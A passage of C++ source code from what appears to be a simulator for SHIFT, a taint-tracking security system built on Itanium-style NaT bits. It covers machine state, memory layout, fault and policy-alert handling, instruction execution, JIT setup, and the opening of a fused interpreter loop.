        snap.gprNat[r] = gpr_[r].nat;
    }
    for (int p = 0; p < kNumPred; ++p)
        snap.pred[p] = pred_[p];
    for (int b = 0; b < kNumBr; ++b)
        snap.br[b] = br_[b];
    snap.unat = unat_;
    snap.curFunc = curFunc_;
    snap.pc = pc_;
    snap.globalAddr = globalAddr_;
    snap.heapBreak = heapBreak_;
    snap.heapLimit = heapLimit_;
    snap.decoded = decoded_;
    if (jitEnabled_)
        snap.jitCache = jitCache_;
    return snap;
}

void
Machine::layout()
{
    // Globals: shared deterministic layout (see computeGlobalLayout).
    GlobalLayout layout = computeGlobalLayout(*program_);
    globalAddr_ = layout.addr;
    mem_.map(kGlobalBase, std::max<uint64_t>(layout.end - kGlobalBase, 16));
    for (const GlobalDef &g : program_->globals) {
        if (!g.init.empty()) {
            MemFault f = mem_.writeBytes(globalAddr_[g.name],
                                         g.init.data(), g.init.size());
            SHIFT_ASSERT(f == MemFault::None);
        }
    }

    heapBreak_ = roundUp(layout.end + kHeapGap, Memory::kPageSize);
    heapLimit_ = heapBreak_ + kHeapMax;

    mem_.map(kStackBase, kStackSize);
}

void
Machine::resolveLabels()
{
    labelPos_.resize(program_->functions.size());
    for (size_t f = 0; f < program_->functions.size(); ++f) {
        const Function &fn = program_->functions[f];
        std::vector<int32_t> &pos = labelPos_[f];
        pos.assign(static_cast<size_t>(fn.nextLabel), -1);
        for (size_t i = 0; i < fn.code.size(); ++i) {
            const Instr &instr = fn.code[i];
            if (instr.op == Opcode::Label) {
                if (instr.imm < 0 ||
                    static_cast<size_t>(instr.imm) >= pos.size()) {
                    pos.resize(static_cast<size_t>(instr.imm) + 1, -1);
                }
                pos[static_cast<size_t>(instr.imm)] =
                    static_cast<int32_t>(i);
            }
        }
    }
}

void
Machine::reset()
{
    gpr_.fill(Gpr{});
    pred_.fill(false);
    pred_[0] = true;
    br_.fill(0);
    unat_ = 0;
    setGpr(reg::sp, kStackBase + kStackSize - 128);
    callStack_.clear();
    auto entry = program_->findFunction(program_->entry);
    if (!entry)
        SHIFT_FATAL("entry function '%s' not found",
                    program_->entry.c_str());
    curFunc_ = *entry;
    pc_ = 0;
}

void
Machine::setGpr(int r, uint64_t val, bool nat)
{
    if (r == reg::zero)
        return; // r0 is hardwired
    gpr_[r].val = val;
    gpr_[r].nat = nat;
}

void
Machine::setPred(int p, bool v)
{
    if (p == 0)
        return; // p0 is hardwired true
    pred_[p] = v;
}

void
Machine::setRetval(uint64_t val, bool nat)
{
    setGpr(reg::rv, val, nat);
    // Under the async tier the caller (a builtin or syscall handler)
    // runs at a fence, so the consumer's shadow is quiesced: mirror
    // the retval's taint there, exactly as the NaT write above would
    // have carried it in the synchronous engine.
    if (asyncTier_)
        asyncTier_->setRegTaint(reg::rv, nat);
}

bool
Machine::argNat(int i) const
{
    // Under the async tier the engine's NaT bits are conservative
    // "maybe tainted" summaries (see runDecoded's aluDone), so only
    // the consumer's shadow — quiesced at the builtin fence — is the
    // exact taint the synchronous engine's NaT bit would carry.
    if (asyncTier_)
        return asyncTier_->regTaint(reg::arg0 + i);
    return gpr_[reg::arg0 + i].nat;
}

uint64_t
Machine::globalAddr(const std::string &name) const
{
    auto it = globalAddr_.find(name);
    if (it == globalAddr_.end())
        SHIFT_FATAL("no global named '%s'", name.c_str());
    return it->second;
}

uint64_t
Machine::sbrk(uint64_t bytes)
{
    uint64_t old = heapBreak_;
    uint64_t next = roundUp(heapBreak_ + bytes, 16);
    if (next > heapLimit_)
        SHIFT_FATAL("simulated heap exhausted");
    mem_.map(old, next - old);
    heapBreak_ = next;
    return old;
}

uint64_t
Machine::archPc() const
{
    if (engine_ == ExecEngine::Legacy)
        return pc_;
    if (archPcOverride_ >= 0)
        return static_cast<uint64_t>(archPcOverride_);
    if (!decoded_ || curFunc_ < 0 ||
        static_cast<size_t>(curFunc_) >= decoded_->functions.size())
        return pc_;
    const DecodedFunction &df = decoded_->functions[curFunc_];
    const std::vector<DecodedInstr> &stream = inFast_ ? df.fast : df.code;
    if (pc_ < stream.size())
        return static_cast<uint64_t>(stream[pc_].origIndex);
    return df.origCount; // fell off the end
}

void
Machine::registerBuiltin(const std::string &name, BuiltinFn fn)
{
    BuiltinFn &stored = builtins_[name];
    stored = std::move(fn);
    // Bind any predecoded call site referencing this name. Map nodes
    // are address-stable, so the slot pointer survives rehashes and
    // re-registration.
    if (!decoded_)
        return;
    for (size_t i = 0; i < decoded_->builtinNames.size(); ++i) {
        if (decoded_->builtinNames[i] == name)
            builtinSlotFns_[i] = &stored;
    }
}

void
Machine::setTraceHook(TraceFn fn)
{
    trace_ = std::move(fn);
    // Per-instruction tracing and fused macro micro-ops are at odds:
    // a fused handler executes a whole instrumentation idiom between
    // trace points. Swap in an unfused decode of the same program.
    // Only possible before the run (pc 0 in both streams); run() can
    // be called once, so a post-run install has nothing left to trace.
    if (!trace_ || engine_ != ExecEngine::Predecoded || !decoded_ ||
        ran_ || !hasFusedOps(*decoded_))
        return;
    auto decoded = std::make_shared<DecodedProgram>();
    Fault decodeError;
    if (!decodeProgram(*program_, *decoded, decodeError, /*fuse=*/false))
        return; // the fused decode succeeded, so this cannot happen
    decoded_ = std::move(decoded);
    builtinSlotFns_.assign(decoded_->builtinNames.size(), nullptr);
    for (size_t i = 0; i < decoded_->builtinNames.size(); ++i) {
        auto it = builtins_.find(decoded_->builtinNames[i]);
        if (it != builtins_.end())
            builtinSlotFns_[i] = &it->second;
    }
    // The unfused decode builds no fast streams; the fast tier simply
    // never engages under a trace hook (fastEntry lookups all miss).
    fpEnters_.assign(decoded_->fastBlocks.size(), 0);
    fpDeopts_.assign(decoded_->fastBlocks.size(), 0);
    fpCold_.assign(decoded_->fastBlocks.size(), 0);
}

void
Machine::setJitEnabled(bool enabled, uint32_t threshold,
                       size_t cacheBytes, bool background,
                       bool lazyBlocks)
{
    jitEnabled_ = false;
    jitActive_ = nullptr;
    if (!enabled) {
        jitCache_.reset();
        return;
    }
    if (engine_ != ExecEngine::Predecoded || !decoded_ ||
        !jit::available())
        return; // silent no-op: portable builds just interpret
    jitEnabled_ = true;
    jitThreshold_ = threshold;
    jitCacheBytes_ = cacheBytes;
    jitBackground_ = background;
    jitLazy_ = lazyBlocks;
    jit::CompileMode mode = background ? jit::CompileMode::Background
                                       : jit::CompileMode::Sync;
    // Create the cache eagerly so capture() can hand it to clones
    // before anything runs. run() re-validates the environment (the
    // cycle model or fast-path switch may change in between) and
    // replaces a stale cache then.
    jit::CompileEnv env{cycleModel_, features_.natSetClear,
                        features_.natAwareCompare, fastEnabled_,
                        asyncTier_ != nullptr};
    if (!jitCache_ || jitCache_->program() != decoded_.get() ||
        !(jitCache_->env() == env) ||
        (threshold != 0 && jitCache_->threshold() != threshold) ||
        (cacheBytes != 0 && jitCache_->maxBytes() != cacheBytes) ||
        jitCache_->mode() != mode ||
        jitCache_->lazyBlocks() != lazyBlocks)
        jitCache_ = std::make_shared<jit::CodeCache>(
            decoded_, env, threshold, cacheBytes, mode, lazyBlocks);
}

void
Machine::setObserver(obs::TraceBuffer *buffer)
{
    obs_ = buffer;
    if (!buffer) {
        mem_.setCowHook(nullptr);
        return;
    }
    // COW copies are rare (one per page per clone at most), so a
    // std::function hook on the copy path costs nothing measurable.
    mem_.setCowHook([this](uint64_t addr) {
        obs_->emit(obs::Ev::CowCopy, 0, curFunc_, 0, addr);
    });
    // Per-PC hot-spot table: one counter per original instruction,
    // flat across functions. Bounded by static program size; only the
    // tracing interpreter instantiation increments it.
    if (hotPc_.empty()) {
        hotPcBase_.assign(program_->functions.size(), 0);
        uint32_t base = 0;
        for (size_t f = 0; f < program_->functions.size(); ++f) {
            hotPcBase_[f] = base;
            base += static_cast<uint32_t>(
                        program_->functions[f].code.size()) +
                    1;
        }
        hotPc_.assign(base, 0);
    }
}

void
Machine::raiseAlert(SecurityAlert alert, bool kill)
{
    alert.function = curFunc_;
    alert.pc = archPc();
    if (obs_) {
        obs_->emit(kill ? obs::Ev::PolicyKill : obs::Ev::PolicyAlert,
                   obs::packPolicyId(alert.policy), curFunc_, alert.pc);
        // The verdict carries the chain that led here: source syscall,
        // propagating tag stores, and (last) this failing check.
        if (kill)
            provenance_ = obs_->taintChain(16);
    }
    alerts_.push_back(std::move(alert));
    if (kill) {
        killedByPolicy_ = true;
        stopped_ = true;
    }
}

void
Machine::requestExit(int64_t code)
{
    exited_ = true;
    exitCode_ = code;
    stopped_ = true;
}

void
Machine::setFault(FaultKind kind, FaultContext ctx, uint64_t addr,
                  const std::string &detail)
{
    Fault fault;
    fault.kind = kind;
    fault.context = ctx;
    fault.function = curFunc_;
    fault.pc = archPc();
    fault.addr = addr;
    fault.detail = detail;

    if (kind == FaultKind::NatConsumption && natFault_) {
        std::optional<SecurityAlert> alert = natFault_(*this, fault);
        if (alert) {
            alert->function = curFunc_;
            alert->pc = fault.pc;
            if (obs_) {
                obs_->emit(obs::Ev::PolicyKill,
                           obs::packPolicyId(alert->policy), curFunc_,
                           fault.pc, addr);
                provenance_ = obs_->taintChain(16);
            }
            alerts_.push_back(std::move(*alert));
            killedByPolicy_ = true;
            stopped_ = true;
            return;
        }
    }
    fault_ = fault;
    stopped_ = true;
}

void
Machine::natConsumptionFault(FaultContext ctx, const std::string &detail)
{
    setFault(FaultKind::NatConsumption, ctx, 0, detail);
}

void
Machine::applyAsyncViolation(const dift::Violation &v)
{
    if (asyncViolationApplied_)
        return;
    asyncViolationApplied_ = true;
    // The violating instruction precedes, in program order, anything
    // the lag-bounded engine did afterwards — including stopping for
    // its own reasons (exit, a later fault, the step limit). The
    // synchronous engine would have faulted there first, so its
    // verdict replaces whatever this run reached. Alerts that fired
    // at earlier fences are kept: they precede the violation.
    exited_ = false;
    exitCode_ = 0;
    fault_ = Fault{};
    curFunc_ = v.func;
    archPcOverride_ = v.pc;
    FaultContext ctx = FaultContext::None;
    switch (v.kind) {
      case dift::ViolationKind::LoadAddress:
        ctx = FaultContext::LoadAddress;
        break;
      case dift::ViolationKind::StoreAddress:
        ctx = FaultContext::StoreAddress;
        break;
      case dift::ViolationKind::StoreValue:
        ctx = FaultContext::StoreValue;
        break;
      case dift::ViolationKind::ControlFlow:
        ctx = FaultContext::ControlFlow;
        break;
    }
    setFault(FaultKind::NatConsumption, ctx, v.addr, v.detail);
}

void
Machine::chargeCycles(const Instr &instr, uint64_t cycles)
{
    cycles_ += cycles;
    ++instrs_;
    int prov = static_cast<int>(instr.prov);
    int cls = static_cast<int>(instr.origClass);
    cyclesBy_[prov][cls] += cycles;
    instrsBy_[prov][cls] += 1;
    // The legacy stepper is never perf-contractual, so its hot-spot
    // attribution is a plain branch (pc_ is the original index here).
    if (!hotPc_.empty())
        ++hotPc_[hotPcBase_[curFunc_] + pc_];
}

void
Machine::chargeMemAccess(const Instr &instr, uint64_t addr, bool isLoadAcc)
{
    bool hit = dcache_.access(addr);
    uint64_t extra;
    if (isLoadAcc)
        extra = hit ? cycleModel_.loadHit : cycleModel_.loadMiss;
    else
        extra = hit ? 0 : cycleModel_.storeMiss;
    cycles_ += extra;
    cyclesBy_[static_cast<int>(instr.prov)]
             [static_cast<int>(instr.origClass)] += extra;
}

uint64_t
Machine::src2Val(const Instr &instr) const
{
    return instr.useImm ? static_cast<uint64_t>(instr.imm)
                        : gpr_[instr.r3].val;
}

bool
Machine::src2Nat(const Instr &instr) const
{
    return instr.useImm ? false : gpr_[instr.r3].nat;
}

void
Machine::execAlu(const Instr &instr)
{
    uint64_t a = gpr_[instr.r2].val;
    uint64_t b = src2Val(instr);
    bool nat = gpr_[instr.r2].nat || src2Nat(instr);
    uint64_t result = 0;
    uint64_t cost = cycleModel_.alu;

    auto shiftAmount = [](uint64_t v) { return v > 63 ? 64U
        : static_cast<unsigned>(v); };

    switch (instr.op) {
      case Opcode::Add: result = a + b; break;
      case Opcode::Sub: result = a - b; break;
      case Opcode::And: result = a & b; break;
      case Opcode::Andcm: result = a & ~b; break;
      case Opcode::Or: result = a | b; break;
      case Opcode::Xor: result = a ^ b; break;
      case Opcode::Mul:
        result = a * b;
        cost = cycleModel_.mul;
        break;
      case Opcode::Div:
      case Opcode::Mod:
      case Opcode::DivU:
      case Opcode::ModU: {
        cost = cycleModel_.div;
        if (b == 0) {
            if (!nat) {
                setFault(FaultKind::DivByZero, FaultContext::None, 0,
                         "division by zero");
                return;
            }
            result = 0;
        } else if (instr.op == Opcode::DivU) {
            result = a / b;
        } else if (instr.op == Opcode::ModU) {
            result = a % b;
        } else {
            int64_t sa = static_cast<int64_t>(a);
            int64_t sb = static_cast<int64_t>(b);
            if (sa == INT64_MIN && sb == -1) {
                result = instr.op == Opcode::Div
                             ? static_cast<uint64_t>(INT64_MIN)
                             : 0;
            } else if (instr.op == Opcode::Div) {
                result = static_cast<uint64_t>(sa / sb);
            } else {
                result = static_cast<uint64_t>(sa % sb);
            }
        }
        break;
      }
      case Opcode::Shl: {
        unsigned sh = shiftAmount(b);
        result = sh >= 64 ? 0 : (a << sh);
        break;
      }
      case Opcode::Shr: {
        unsigned sh = shiftAmount(b);
        result = sh >= 64 ? 0 : (a >> sh);
        break;
      }
      case Opcode::Sar: {
        unsigned sh = shiftAmount(b);
        int64_t sa = static_cast<int64_t>(a);
        result = static_cast<uint64_t>(sh >= 64 ? (sa < 0 ? -1 : 0)
                                                : (sa >> sh));
        break;
      }
      case Opcode::Sxt:
        result = static_cast<uint64_t>(signExtend(a, instr.size * 8));
        break;
      case Opcode::Zxt:
        result = a & lowMask(instr.size * 8);
        break;
      case Opcode::Extr:
        result = (a >> instr.pos) &
                 lowMask(instr.len ? instr.len : 64);
        break;
      case Opcode::Shladd:
        result = (a << instr.pos) + b;
        break;
      case Opcode::Mov:
        result = a;
        break;
      case Opcode::Movi:
        result = b;
        nat = false;
        break;
      default:
        SHIFT_PANIC("execAlu: not an ALU op: %s", opcodeName(instr.op));
    }

    setGpr(instr.r1, result, nat);
    chargeCycles(instr, cost);
    ++pc_;
}

void
Machine::execCmp(const Instr &instr)
{
    uint64_t a = gpr_[instr.r2].val;
    uint64_t b = src2Val(instr);
    bool nat = gpr_[instr.r2].nat || src2Nat(instr);

    bool taken = false;
    int64_t sa = static_cast<int64_t>(a);
    int64_t sb = static_cast<int64_t>(b);
    switch (instr.rel) {
      case CmpRel::Eq: taken = a == b; break;
      case CmpRel::Ne: taken = a != b; break;
      case CmpRel::Lt: taken = sa < sb; break;
      case CmpRel::Le: taken = sa <= sb; break;
      case CmpRel::Gt: taken = sa > sb; break;
      case CmpRel::Ge: taken = sa >= sb; break;
      case CmpRel::LtU: taken = a < b; break;
      case CmpRel::LeU: taken = a <= b; break;
      case CmpRel::GtU: taken = a > b; break;
      case CmpRel::GeU: taken = a >= b; break;
    }

    if (instr.op == Opcode::Cmp && nat) {
        // Itanium semantics: a NaT operand clears both target
        // predicates so mis-speculated code cannot commit state. This
        // is exactly the behaviour SHIFT must relax for taint-carrying
        // compares (paper section 4.1).
        setPred(instr.p1, false);
        setPred(instr.p2, false);
    } else {
        setPred(instr.p1, taken);
        setPred(instr.p2, !taken);
    }
    chargeCycles(instr, cycleModel_.alu);
    ++pc_;
}

void
Machine::execLd(const Instr &instr)
{
    const Gpr &addrReg = gpr_[instr.r2];
    uint64_t addr = addrReg.val;

    if (instr.spec) {
        // Speculative load: all failures defer into the NaT bit.
        if (addrReg.nat || mem_.probe(addr, instr.size) != MemFault::None) {
            setGpr(instr.r1, 0, true);
            chargeCycles(instr, cycleModel_.loadBase);
            ++pc_;
            return;
        }
    } else if (addrReg.nat) {
        // Instrumentation's own tag-bitmap access inherits the NaT of
        // the ORIGINAL address register; report the policy context of
        // the instruction being instrumented, not of the helper load.
        FaultContext ctx = instr.origClass == OrigClass::ForStore
                               ? FaultContext::StoreAddress
                               : FaultContext::LoadAddress;
        setFault(FaultKind::NatConsumption, ctx, addr,
                 "load through a NaT (tainted) address");
        return;
    }

    uint64_t value = 0;
    bool nat = false;
    MemFault mf;
    if (instr.fill)
        mf = mem_.readFill(addr, value, nat);
    else
        mf = mem_.read(addr, instr.size, value);
    if (mf != MemFault::None) {
        setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                 addr, "load from illegal address");
        return;
    }

    setGpr(instr.r1, value, nat);
    ++loadCount_;
    chargeCycles(instr, cycleModel_.loadBase);
    chargeMemAccess(instr, addr, true);
    ++pc_;
}

void
Machine::execSt(const Instr &instr)
{
    const Gpr &addrReg = gpr_[instr.r1];
    const Gpr &srcReg = gpr_[instr.r2];
    uint64_t addr = addrReg.val;

    if (addrReg.nat) {
        setFault(FaultKind::NatConsumption, FaultContext::StoreAddress,
                 addr, "store through a NaT (tainted) address");
        return;
    }
    if (srcReg.nat && !instr.spill) {
        setFault(FaultKind::NatConsumption, FaultContext::StoreValue,
                 addr, "plain store of a NaT source register");
        return;
    }

    MemFault mf;
    if (instr.spill) {
        mf = mem_.writeSpill(addr, srcReg.val, srcReg.nat);
        if (mf == MemFault::None) {
            // Track the NaT bit in ar.unat as well, as Itanium does.
            unsigned bitIdx = static_cast<unsigned>((addr >> 3) & 63);
            unat_ = insertBit(unat_, bitIdx, srcReg.nat);
        }
    } else {
        mf = mem_.write(addr, instr.size, srcReg.val);
    }
    if (mf != MemFault::None) {
        setFault(FaultKind::IllegalAddress, FaultContext::StoreAddress,
                 addr, "store to illegal address");
        return;
    }
    if (obs_ && !instr.spill && srcReg.val != 0 &&
        regionOf(addr) == kTagRegion)
        obs_->emit(obs::Ev::TaintStore, 0, curFunc_, pc_, addr);

    ++storeCount_;
    chargeCycles(instr, cycleModel_.storeBase);
    chargeMemAccess(instr, addr, false);
    ++pc_;
}

void
Machine::doCall(int funcIndex)
{
    if (callStack_.size() >= kMaxCallDepth) {
        setFault(FaultKind::IllegalAddress, FaultContext::None, 0,
                 "call stack overflow");
        return;
    }
    // A builtin may call in from the fast tier: the return pc is then
    // fast-stream-relative and the frame records which stream it
    // indexes. The callee itself starts on the instrumented stream
    // (its first taken branch can promote it back; see runDecoded).
    callStack_.push_back(Frame{curFunc_, pc_ + 1, inFast_});
    curFunc_ = funcIndex;
    pc_ = 0;
    inFast_ = false;
}

void
Machine::callFunction(int funcIndex)
{
    SHIFT_ASSERT(funcIndex >= 0 &&
                 static_cast<size_t>(funcIndex) <
                     program_->functions.size(),
                 "callFunction: bad function index");
    doCall(funcIndex);
}

void
Machine::doBuiltinOrFault(const Instr &instr)
{
    auto it = builtins_.find(instr.callee);
    if (it == builtins_.end()) {
        setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                 "no function or built-in named '" + instr.callee + "'");
        return;
    }
    runBuiltin(instr, it->second);
}

void
Machine::runBuiltin(const Instr &instr, const BuiltinFn &fn)
{
    chargeCycles(instr, cycleModel_.call);
    uint64_t pcBefore = pc_;
    int funcBefore = curFunc_;
    size_t depthBefore = callStack_.size();
    fn(*this);
    // A built-in may stop the machine (alert / fault / exit) or
    // transfer control (callFunction); advance past the call site only
    // when it did neither. Comparing pc alone is not enough: a frame
    // pushed into a callee whose entry pc equals the call-site pc would
    // be double-advanced, skipping the callee's first instruction.
    if (!stopped_ && pc_ == pcBefore && curFunc_ == funcBefore &&
        callStack_.size() == depthBefore)
        ++pc_;
}

void
Machine::stepLegacy()
{
    const Function &fn = program_->functions[curFunc_];
    if (pc_ >= fn.code.size()) {
        setFault(FaultKind::IllegalAddress, FaultContext::None, pc_,
                 "fell off the end of function '" + fn.name + "'");
        return;
    }
    const Instr &instr = fn.code[pc_];

    if (instr.op == Opcode::Label) {
        ++pc_; // zero-cost marker
        return;
    }

    if (trace_)
        trace_(*this, instr);

    // Qualifying predicate: a false predicate nullifies the
    // instruction, but it still occupies an issue slot.
    if (instr.qp != 0 && !pred_[instr.qp]) {
        chargeCycles(instr, cycleModel_.nullified);
        lastLoadDst_ = -1;
        ++pc_;
        return;
    }

    // Load-use stall: consuming a load result in the very next issue
    // slot stalls the in-order pipeline. This is what hoisting a load
    // with control speculation buys back (section 3.3.4).
    // (chk.s only inspects the NaT bit, which is available early.)
    if (lastLoadDst_ >= 0 && instr.op != Opcode::Chk &&
        usesReg(instr, lastLoadDst_)) {
        uint64_t stall = cycleModel_.loadUseStall;
        cycles_ += stall;
        stallCycles_ += stall;
        cyclesBy_[static_cast<int>(instr.prov)]
                 [static_cast<int>(instr.origClass)] += stall;
    }
    lastLoadDst_ = instr.op == Opcode::Ld ? instr.r1 : -1;

    switch (instr.op) {
      case Opcode::Nop:
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
      case Opcode::Div: case Opcode::Mod: case Opcode::DivU:
      case Opcode::ModU: case Opcode::And: case Opcode::Andcm:
      case Opcode::Or: case Opcode::Xor: case Opcode::Shl:
      case Opcode::Shr: case Opcode::Sar: case Opcode::Sxt:
      case Opcode::Zxt: case Opcode::Extr: case Opcode::Shladd:
      case Opcode::Mov: case Opcode::Movi:
        execAlu(instr);
        break;

      case Opcode::Cmp:
        execCmp(instr);
        break;

      case Opcode::CmpNat:
        if (!features_.natAwareCompare) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "cmp.nat requires the natAwareCompare feature");
            return;
        }
        execCmp(instr);
        break;

      case Opcode::Tnat:
        setPred(instr.p1, gpr_[instr.r2].nat);
        setPred(instr.p2, !gpr_[instr.r2].nat);
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Tbit: {
        if (gpr_[instr.r2].nat) {
            setPred(instr.p1, false);
            setPred(instr.p2, false);
        } else {
            bool b = bit(gpr_[instr.r2].val,
                         static_cast<unsigned>(instr.imm));
            setPred(instr.p1, b);
            setPred(instr.p2, !b);
        }
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;
      }

      case Opcode::Ld:
        execLd(instr);
        break;

      case Opcode::St:
        execSt(instr);
        break;

      case Opcode::Chk:
        if (gpr_[instr.r2].nat) {
            const std::vector<int32_t> &pos = labelPos_[curFunc_];
            int32_t target =
                instr.imm >= 0 &&
                        static_cast<size_t>(instr.imm) < pos.size()
                    ? pos[static_cast<size_t>(instr.imm)]
                    : -1;
            if (target < 0) {
                setFault(FaultKind::BadProgram,
                         FaultContext::ControlFlow, 0,
                         "branch to unresolved label L" +
                             std::to_string(instr.imm) +
                             " in function '" + fn.name + "'");
                return;
            }
            chargeCycles(instr, cycleModel_.branchTaken);
            pc_ = static_cast<uint64_t>(target);
        } else {
            chargeCycles(instr, cycleModel_.branch);
            ++pc_;
        }
        break;

      case Opcode::Br: {
        const std::vector<int32_t> &pos = labelPos_[curFunc_];
        int32_t target =
            instr.imm >= 0 &&
                    static_cast<size_t>(instr.imm) < pos.size()
                ? pos[static_cast<size_t>(instr.imm)]
                : -1;
        if (target < 0) {
            setFault(FaultKind::BadProgram, FaultContext::ControlFlow,
                     0,
                     "branch to unresolved label L" +
                         std::to_string(instr.imm) + " in function '" +
                         fn.name + "'");
            return;
        }
        chargeCycles(instr, cycleModel_.branchTaken);
        pc_ = static_cast<uint64_t>(target);
        break;
      }

      case Opcode::BrCall: {
        auto callee = program_->findFunction(instr.callee);
        if (callee) {
            chargeCycles(instr, cycleModel_.call);
            doCall(*callee);
        } else {
            doBuiltinOrFault(instr);
        }
        break;
      }

      case Opcode::BrCalli: {
        uint64_t target = br_[instr.br];
        auto callee = funcIndexForDesc(target,
                                       program_->functions.size());
        if (!callee) {
            setFault(FaultKind::BadIndirect, FaultContext::ControlFlow,
                     target, "indirect call to a non-function address");
            return;
        }
        chargeCycles(instr, cycleModel_.call);
        doCall(*callee);
        break;
      }

      case Opcode::BrRet:
        chargeCycles(instr, cycleModel_.call);
        if (callStack_.empty()) {
            exited_ = true;
            exitCode_ = static_cast<int64_t>(gpr_[reg::rv].val);
            stopped_ = true;
        } else {
            Frame frame = callStack_.back();
            callStack_.pop_back();
            curFunc_ = frame.function;
            pc_ = frame.returnPc;
        }
        break;

      case Opcode::MovToBr:
        if (gpr_[instr.r2].nat) {
            setFault(FaultKind::NatConsumption,
                     FaultContext::ControlFlow, gpr_[instr.r2].val,
                     "NaT (tainted) value moved into a branch register");
            return;
        }
        br_[instr.br] = gpr_[instr.r2].val;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::MovFromBr:
        setGpr(instr.r1, br_[instr.br], false);
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::MovToUnat:
        if (gpr_[instr.r2].nat) {
            setFault(FaultKind::NatConsumption,
                     FaultContext::AppRegister, 0,
                     "NaT value moved into ar.unat");
            return;
        }
        unat_ = gpr_[instr.r2].val;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::MovFromUnat:
        setGpr(instr.r1, unat_, false);
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Setnat:
        if (!features_.natSetClear) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "setnat requires the natSetClear feature");
            return;
        }
        gpr_[instr.r1].nat = instr.r1 != reg::zero;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Clrnat:
        if (!features_.natSetClear) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "clrnat requires the natSetClear feature");
            return;
        }
        gpr_[instr.r1].nat = false;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Syscall:
        chargeCycles(instr, cycleModel_.syscallBase);
        if (!syscall_) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "no system-call handler installed");
            return;
        }
        syscall_(*this, instr.imm);
        if (!stopped_)
            ++pc_;
        break;

      case Opcode::Halt:
        exited_ = true;
        exitCode_ = static_cast<int64_t>(gpr_[reg::rv].val);
        stopped_ = true;
        break;

      case Opcode::Label:
        break; // handled above

      case Opcode::FusedTagAddr:
      case Opcode::FusedChkByte:
      case Opcode::FusedChkWord:
      case Opcode::FusedClearNat:
      case Opcode::FusedStUpdByte:
      case Opcode::FusedStUpdWord:
        // Fused micro-ops exist only in decoded streams; an
        // architectural program carrying one is malformed.
        setFault(FaultKind::BadProgram, FaultContext::None, 0,
                 "fused micro-op in an architectural program");
        return;
    }
}

template <bool kObs, bool kHotPc, bool kAsync, bool kProf>
void
Machine::runDecoded(uint64_t maxSteps)
{
    // The fused interpreter loop. Everything per-instruction lives in
    // locals the compiler can keep in registers: the dense pc, the
    // cycle/instruction deltas, the last load destination and the
    // current function's code pointer. The architectural members are
    // the source of truth only at observation points — sync() writes
    // the locals back before anything that can observe machine state
    // (faults, alerts, built-ins, system calls, trace hooks), and
    // resync() re-reads control state after a callback that may have
    // moved it. The legacy engine's per-opcode helpers (execAlu and
    // friends) remain the reference semantics and every handler below
    // must match them bit for bit — the test_engine equivalence suite
    // enforces this.
    //
    // Dispatch is direct-threaded where the compiler supports computed
    // goto: SHIFT_NEXT() stamps the fetch/trace/predicate/stall front
    // end plus its own indirect jump at the end of every handler, so
    // the host branch predictor can learn per-opcode successor
    // patterns instead of sharing one switch branch. Elsewhere the
    // same handler bodies compile into a switch inside a loop. There
    // is no per-fetch bounds check in either mode: every function's
    // stream ends in a sentinel micro-op (see decodeProgram) whose
    // handler raises the fell-off-the-end fault.
    if (stopped_)
        return; // construction-time decode failure: nothing to run
    const DecodedFunction *df = &decoded_->functions[curFunc_];
    // Which of the function's two streams pc indexes (see
    // docs/FAST-PATH.md): the instrumented `code` stream, or its
    // taint-clean `fast` twin in which bitmap checks/updates are
    // replaced by Fp* summary probes. Runs start on the instrumented
    // stream; taken branches promote into the fast tier and failed
    // probes deopt out of it.
    bool inFast = inFast_;
    const DecodedInstr *code =
        inFast ? df->fast.data() : df->code.data();
    const DecodedInstr *dp = code;
    uint64_t pc = pc_;
    uint64_t cycles = 0; // delta not yet in cycles_
    uint64_t instrs = 0; // delta not yet in instrs_
    // Load-use tracking as a single mask: bit r is set when the
    // previous instruction loaded register r, so the stall check is
    // one AND against the micro-op's precomputed use mask.
    uint64_t loadMask =
        lastLoadDst_ >= 0 ? 1ULL << (lastLoadDst_ & 63) : 0;
    uint64_t steps = 0;
    // Accounting matrices viewed flat; each instruction carries its
    // precomputed (provenance, class) index, so attribution is one
    // indexed add instead of two enum-to-int conversions per event.
    uint64_t *const cyFlat = &cyclesBy_[0][0];
    uint64_t *const inFlat = &instrsBy_[0][0];
    unsigned statIdx = 0; // of the instruction currently executing

    auto sync = [&] {
        pc_ = pc;
        inFast_ = inFast;
        cycles_ += cycles;
        cycles = 0;
        instrs_ += instrs;
        instrs = 0;
        lastLoadDst_ = loadMask ? std::countr_zero(loadMask) : -1;
    };
    auto resync = [&] {
        pc = pc_;
        inFast = inFast_;
        df = &decoded_->functions[curFunc_];
        code = inFast ? df->fast.data() : df->code.data();
    };
    // Per-PC hot-spot attribution is its own instantiation axis:
    // run() selects kHotPc only when setObserver allocated the table,
    // so the increment needs no null test — and the kHotPc = false
    // loops (production and the forced-dispatch bench mode) compile
    // none of this, keeping charge() free of per-instruction
    // observability work.
    uint32_t *const hotData = kHotPc ? hotPc_.data() : nullptr;
    // Tier-attribution profiler (docs/OBSERVABILITY.md): its own
    // instantiation axis like kObs, so the production loop compiles
    // none of this. A countdown in charge() takes a sampling tick
    // every kSampleEvery charged micro-ops, attributing elapsed host
    // time to the observed {tier, function, pc}; exact sub-intervals
    // (async publication, sync compiles, builtins, syscalls) are
    // carved out by the brackets below so tier sums stay exhaustive.
    [[maybe_unused]] uint32_t profLeft = obs::Profiler::kSampleEvery;
    auto charge = [&](uint64_t cost) {
        cycles += cost;
        ++instrs;
        cyFlat[statIdx] += cost;
        inFlat[statIdx] += 1;
        if constexpr (kHotPc) {
